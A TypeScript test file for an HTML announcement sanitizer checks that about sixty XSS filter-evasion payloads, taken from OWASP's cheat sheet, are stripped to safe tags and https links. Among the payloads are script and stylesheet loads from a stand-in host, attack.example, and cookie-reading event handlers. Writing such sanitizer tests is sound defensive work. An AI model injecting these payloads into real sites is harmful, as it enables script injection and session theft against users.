import { expect, it } from 'vitest'
import { JSDOM } from 'jsdom'
import { sanitizeAnnouncement } from './sanitizeAnnouncement.ts'

/** Filter evasions from OWASP's XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0). */
const evasions = [
  `<SCRIPT SRC=https://attack.example/x.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("XSS")`>',
  `<a onmouseover="alert(document.cookie)">x</a>`,
  `<a onmouseover=alert(document.cookie) href=https://a.example>x</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=# onmouseover="alert('x')">`,
  `<IMG SRC=/ onerror="alert(1)"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61">x</a>`,
  `<a href="jav	ascript:alert('XSS');">x</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">x</a>`,
  `<a href="\u0000java\u0000script:alert(1)">x</a>`,
  `<SCRIPT/XSS SRC="https://attack.example/x.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="https://attack.example/x.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=https://attack.example/x.js?< B >`,
  `<SCRIPT SRC=//attack.example/.j>`,
  `<IMG SRC="('XSS')"`,
  `<iframe src=https://attack.example/x.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `Set.constructor\`alert\\x28document.domain\\x29\``,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'https://attack.example/x.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://attack.example/x.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<?xml version="1.0"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(1);</html:script></html:html>`,
  `<A HREF="http://66.102.7.147/">x</A>`,
  `<A HREF="//attack.example/">x</A>`,
  `<A HREF="data:text/html,<script>alert(1)</script>">x</A>`,
  `<A HREF="vbscript:msgbox(1)">x</A>`,
  `<a href="https://a.example" style="position:fixed;inset:0" id="content" class="x" name="y">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><button formaction="javascript:alert(1)">x</button></form>`,
  `<p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<b><textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea></b>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<template><script>alert(1)</script></template><details open ontoggle=alert(1)>x</details>`,
]

const allowedTags = ['P', 'BR', 'B', 'I', 'UL', 'OL', 'LI', 'A']

it.each(evasions)('removes everything that runs or loads content from %s', (html) => {
  const clean = sanitizeAnnouncement(html) ?? ''
  const { document } = new JSDOM(`<body>${clean}</body>`).window
  for (const element of document.body.querySelectorAll('*')) {
    expect(allowedTags).toContain(element.tagName)
    for (const { name } of element.attributes) expect(['href', 'rel', 'target']).toContain(name)
    if (element.tagName === 'A') {
      expect((element as unknown as { protocol: string }).protocol).toBe('https:')
      expect(element.getAttribute('rel')).toBe('noopener noreferrer')
    }
  }
  expect(document.querySelectorAll('head > *')).toHaveLength(0)
  expect(sanitizeAnnouncement(clean) ?? '').toBe(clean)
})

it('keeps paragraphs, emphasis, lists and https links of an announcement', () => {
  expect(
    sanitizeAnnouncement(
      '<p>Grev <strong>iki gün</strong> <em>sürer</em><br>ve biter</p><ul><li>DE</li></ul><a href="HTTPS://a.example/?x=1&y=2">bilgi</a>',
    ),
  ).toBe(
    '<p>Grev <b>iki gün</b> <i>sürer</i><br />ve biter</p><ul><li>DE</li></ul><a href="HTTPS://a.example/?x=1&amp;y=2" rel="noopener noreferrer" target="_blank">bilgi</a>',
  )
})

it.each(['', '   ', null, undefined, '<script>alert(1)</script>', '<p>&nbsp; <br></p>'])(
  'returns null for content without readable text: %j',
  (html) => expect(sanitizeAnnouncement(html)).toBeNull(),
)
